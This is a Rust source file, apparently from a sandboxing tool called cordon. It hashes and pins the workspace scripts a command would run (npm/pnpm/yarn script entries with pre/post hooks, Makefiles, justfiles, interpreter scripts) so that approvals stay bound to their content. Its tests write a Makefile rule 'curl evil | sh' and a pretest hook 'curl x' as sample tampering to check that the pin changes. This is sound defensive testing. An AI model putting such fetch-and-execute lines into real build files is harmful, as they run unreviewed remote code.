//! The files a grant is bound to: for a command that runs a script the workspace defines
//! (`npm test`, `make`, `just`, `./x.sh`, `python x.py`), the SHA-256 of that script's
//! definition ([`Script`]). Each such file is read once, through a handle (`openat2`, no symlink on
//! the way, regular files only), and the bytes hashed are the bytes a run under the approval gets:
//! they travel with it as [`Pinned`] files (see `cordon_sandbox::spec::Pinned`).

use std::fs;
use std::path::{Path, PathBuf};

use cordon_config::grants::{hex, Script};
use cordon_sandbox::files::{lexical, read_pinned};
use cordon_sandbox::spec::Pinned;
use sha2::{Digest, Sha256};

fn sha256(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// A script definition and the file it is in, as read (None: the file does not exist).
pub type Bound = (Script, Option<Pinned>);

/// Reads `file` once through a handle (below the workspace when it lies there).
fn read_once(file: &Path, ws: &Path) -> Result<Option<Pinned>, String> {
    match read_pinned(ws, file) {
        Ok(Some(f)) => Ok(Some(Pinned {
            path: file.to_path_buf(),
            sha256: sha256(&f.bytes),
            mode: f.mode,
            bytes: f.bytes,
        })),
        Ok(None) => Ok(None),
        Err(e) => Err(format!("cannot read {e}")),
    }
}

/// Hash of a whole file; "missing" is hashed when it does not exist (creating it changes it).
fn file_script(file: PathBuf, ws: &Path) -> Result<Bound, String> {
    let file = lexical(&file);
    let pin = read_once(&file, ws)?;
    let sha256 = match &pin {
        Some(p) => p.sha256.clone(),
        None => sha256(b"missing"),
    };
    Ok((
        Script {
            file,
            entry: String::new(),
            sha256,
        },
        pin,
    ))
}

/// The nearest `names` file from `cwd` up to `workspace` (inclusive), else `cwd/names[0]`.
fn nearest(cwd: &Path, workspace: &Path, names: &[&str]) -> PathBuf {
    let mut d = Some(cwd);
    while let Some(dir) = d {
        for n in names {
            let p = dir.join(n);
            if p.is_file() {
                return p;
            }
        }
        if dir == workspace || !dir.starts_with(workspace) {
            break;
        }
        d = dir.parent();
    }
    cwd.join(names[0])
}

fn base(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

const SCRIPT_RUNNERS: &[&str] = &["npm", "pnpm", "yarn", "bun", "make", "gmake", "just"];
/// Shells that take `-c STRING`.
pub const INTERPRETER_SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh"];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "python", "python3", "node", "ruby", "perl", "php",
];

/// Script definitions that `argv` (run in `cwd`) executes and that the workspace controls.
/// `Ok(vec![])`: nothing to pin (the argv alone identifies what runs). `Err`: a script runner
/// whose script cannot be pinned (e.g. options cordon does not follow): no project grant then.
pub fn scripts_for(argv: &[String], cwd: &Path, workspace: &Path) -> Result<Vec<Script>, String> {
    Ok(bound_for(argv, cwd, workspace)?
        .into_iter()
        .map(|(s, _)| s)
        .collect())
}

/// [`scripts_for`], with each file's bytes as read (what a run under the approval gets).
pub fn bound_for(argv: &[String], cwd: &Path, workspace: &Path) -> Result<Vec<Bound>, String> {
    let Some(program) = argv.first() else {
        return Ok(Vec::new());
    };
    let name = base(program);
    let args = &argv[1..];
    // A program inside the workspace is itself a script (also when a link outside leads there:
    // then it cannot be read without following the link, and cannot be pinned).
    if program.contains('/') {
        let p = lexical(&cwd.join(program));
        let canon = fs::canonicalize(&p).unwrap_or_else(|_| p.clone());
        if p.starts_with(workspace) || canon.starts_with(workspace) {
            return Ok(vec![file_script(p, workspace)?]);
        }
    }
    if SCRIPT_RUNNERS.contains(&name) {
        return runner_scripts(name, args, cwd, workspace).map(|s| vec![s]);
    }
    if INTERPRETERS.contains(&name) {
        // The first operand is the script file, unless code is given inline (-c, -e, -m, ...).
        for (i, a) in args.iter().enumerate() {
            if a == "--" {
                return match args.get(i + 1) {
                    Some(f) => Ok(vec![file_script(cwd.join(f), workspace)?]),
                    None => Ok(Vec::new()),
                };
            }
            if a.starts_with('-') {
                let inline: &[&str] = match name {
                    "python" | "python3" => &["-c", "-m"],
                    "node" => &["-e", "-p", "--eval", "--print"],
                    "ruby" | "perl" => &["-e", "-E"],
                    "php" => &["-r"],
                    _ => &["-c"],
                };
                if inline.contains(&a.as_str()) {
                    return Ok(Vec::new());
                }
                continue;
            }
            return Ok(vec![file_script(cwd.join(a), workspace)?]);
        }
    }
    Ok(Vec::new())
}

fn runner_scripts(name: &str, args: &[String], cwd: &Path, ws: &Path) -> Result<Bound, String> {
    match name {
        "make" | "gmake" | "just" => makefile_script(name, args, cwd, ws),
        _ => package_script(name, args, cwd, ws),
    }
}

/// Why `name`'s script cannot be pinned.
fn cant(name: &str, why: &str) -> Result<Bound, String> {
    Err(format!(
        "{name}: {why}; cordon cannot tell which script it runs, so it can be allowed once only"
    ))
}

/// make, gmake, just: the makefile (justfile) they read, as `-f`/`-C` say.
fn makefile_script(name: &str, args: &[String], cwd: &Path, ws: &Path) -> Result<Bound, String> {
    let cant = |why: &str| cant(name, why);
    let mut files = Vec::new();
    let mut dir = cwd.to_path_buf();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let file_flag = if name == "just" {
            matches!(a.as_str(), "-f" | "--justfile")
        } else {
            matches!(a.as_str(), "-f" | "--file" | "--makefile")
        };
        if file_flag {
            match it.next() {
                Some(f) => files.push(f.clone()),
                None => return cant("option without a value"),
            }
        } else if let Some(f) = a
            .strip_prefix("--file=")
            .or_else(|| a.strip_prefix("--makefile="))
            .or_else(|| a.strip_prefix("--justfile="))
        {
            files.push(f.to_string());
        } else if name != "just" && a.starts_with("-f") && a.len() > 2 {
            files.push(a[2..].to_string());
        } else if a == "-C" || a == "--directory" || a == "-d" || a == "--working-directory" {
            match it.next() {
                Some(d) if name != "just" => dir = dir.join(d),
                _ => return cant("a directory option"),
            }
        } else if a.starts_with("--directory=") || (a.starts_with("-C") && a.len() > 2) {
            return cant("a directory option");
        }
    }
    let file = match files.as_slice() {
        [] if name == "just" => {
            nearest(&dir, ws, &["justfile", "Justfile", "JUSTFILE", ".justfile"])
        }
        [] => {
            let found = ["GNUmakefile", "makefile", "Makefile"]
                .iter()
                .map(|n| dir.join(n))
                .find(|p| p.is_file());
            found.unwrap_or_else(|| dir.join("Makefile"))
        }
        [one] => dir.join(one),
        _ => return cant("several -f files"),
    };
    file_script(file, ws)
}

/// npm, pnpm, yarn, bun: a named script pins its package.json entry (with its pre/post hooks);
/// anything else (install, ci, ...) pins the whole package.json, whose lifecycle scripts it may
/// run.
fn package_script(name: &str, args: &[String], cwd: &Path, ws: &Path) -> Result<Bound, String> {
    let cant = |why: &str| cant(name, why);
    // npm, pnpm, yarn, bun: a named script pins its package.json entry (with its pre/post
    // hooks); anything else (install, ci, ...) pins the whole package.json, whose
    // lifecycle scripts it may run.
    let mut rest = args.iter().skip_while(|a| a.starts_with('-'));
    if args.first().is_some_and(|a| a.starts_with('-')) {
        return cant("options before the subcommand");
    }
    let sub = rest.next().map(String::as_str);
    let pkg = lexical(&nearest(cwd, ws, &["package.json"]));
    // Read once: the entry hashed below and the file the run gets are these bytes.
    let pin = read_once(&pkg, ws)?;
    let scripts_of = || -> Result<Option<serde_json::Map<String, serde_json::Value>>, String> {
        match &pin {
            Some(p) => {
                let v: serde_json::Value = serde_json::from_slice(&p.bytes)
                    .map_err(|e| format!("{}: {e}", pkg.display()))?;
                Ok(Some(
                    v.get("scripts")
                        .and_then(|s| s.as_object())
                        .cloned()
                        .unwrap_or_default(),
                ))
            }
            None => Ok(None),
        }
    };
    let script_name: Option<String> = match (name, sub) {
        (_, Some("run" | "run-script" | "rum" | "urn")) => rest.next().cloned(),
        ("npm" | "pnpm" | "yarn", Some("test" | "t" | "tst")) => Some("test".into()),
        ("npm" | "pnpm" | "yarn", Some(s @ ("start" | "stop" | "restart"))) => Some(s.to_string()),
        ("yarn" | "pnpm", Some(s)) => {
            // `yarn build` runs the script `build` when package.json defines it.
            match scripts_of()? {
                Some(m) if m.contains_key(s) => Some(s.to_string()),
                _ => None,
            }
        }
        _ => None,
    };
    match script_name {
        Some(s) => {
            let m = scripts_of()?.unwrap_or_default();
            let defs: Vec<serde_json::Value> = [format!("pre{s}"), s.clone(), format!("post{s}")]
                .iter()
                .map(|k| m.get(k).cloned().unwrap_or(serde_json::Value::Null))
                .collect();
            let bytes = serde_json::to_vec(&defs).map_err(|e| e.to_string())?;
            Ok((
                Script {
                    file: pkg,
                    entry: format!("scripts.{s}"),
                    sha256: sha256(&bytes),
                },
                pin,
            ))
        }
        // The whole file, as read above.
        None => Ok((
            Script {
                file: pkg,
                entry: String::new(),
                sha256: match &pin {
                    Some(p) => p.sha256.clone(),
                    None => sha256(b"missing"),
                },
            },
            pin,
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sv(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn npm_test_pins_the_script_entry_only() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path();
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one","build":"x"}}"#,
        )
        .unwrap();
        let a = scripts_for(&sv(&["npm", "test"]), ws, ws).unwrap();
        assert_eq!(a.len(), 1);
        assert_eq!(a[0].entry, "scripts.test");
        // Another script changes: same hash.
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one","build":"y"}}"#,
        )
        .unwrap();
        assert_eq!(scripts_for(&sv(&["npm", "test"]), ws, ws).unwrap(), a);
        // The test script changes, or a pretest hook appears: another hash.
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo two"}}"#,
        )
        .unwrap();
        assert_ne!(scripts_for(&sv(&["npm", "test"]), ws, ws).unwrap(), a);
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one","pretest":"curl x"}}"#,
        )
        .unwrap();
        assert_ne!(
            scripts_for(&sv(&["npm", "run", "test"]), ws, ws).unwrap(),
            a
        );
        // `npm run test` and `npm test` pin the same thing.
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one"}}"#,
        )
        .unwrap();
        assert_eq!(
            scripts_for(&sv(&["npm", "run", "test"]), ws, ws).unwrap(),
            a
        );
        // Options before the subcommand: cannot be pinned.
        assert!(scripts_for(&sv(&["npm", "--prefix", "x", "test"]), ws, ws).is_err());
        // npm install pins the whole file.
        let i = scripts_for(&sv(&["npm", "install"]), ws, ws).unwrap();
        assert_eq!(i[0].entry, "");
    }

    #[test]
    fn make_pins_the_makefile_and_interpreters_their_file() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path();
        let none = scripts_for(&sv(&["make", "all"]), ws, ws).unwrap();
        fs::write(ws.join("Makefile"), "all:\n\ttrue\n").unwrap();
        let one = scripts_for(&sv(&["make", "all"]), ws, ws).unwrap();
        assert_ne!(none, one, "creating the Makefile changes the pin");
        fs::write(ws.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
        assert_ne!(scripts_for(&sv(&["make", "all"]), ws, ws).unwrap(), one);
        assert!(scripts_for(&sv(&["make", "-f", "a", "-f", "b"]), ws, ws).is_err());
        fs::write(ws.join("x.sh"), "echo 1\n").unwrap();
        let s = scripts_for(&sv(&["bash", "-e", "x.sh"]), ws, ws).unwrap();
        assert_eq!(s[0].file, ws.join("x.sh"));
        assert_eq!(scripts_for(&sv(&["./x.sh"]), ws, ws).unwrap().len(), 1);
        assert!(scripts_for(&sv(&["bash", "-c", "echo"]), ws, ws)
            .unwrap()
            .is_empty());
        assert!(scripts_for(&sv(&["ls", "-l"]), ws, ws).unwrap().is_empty());
    }
}
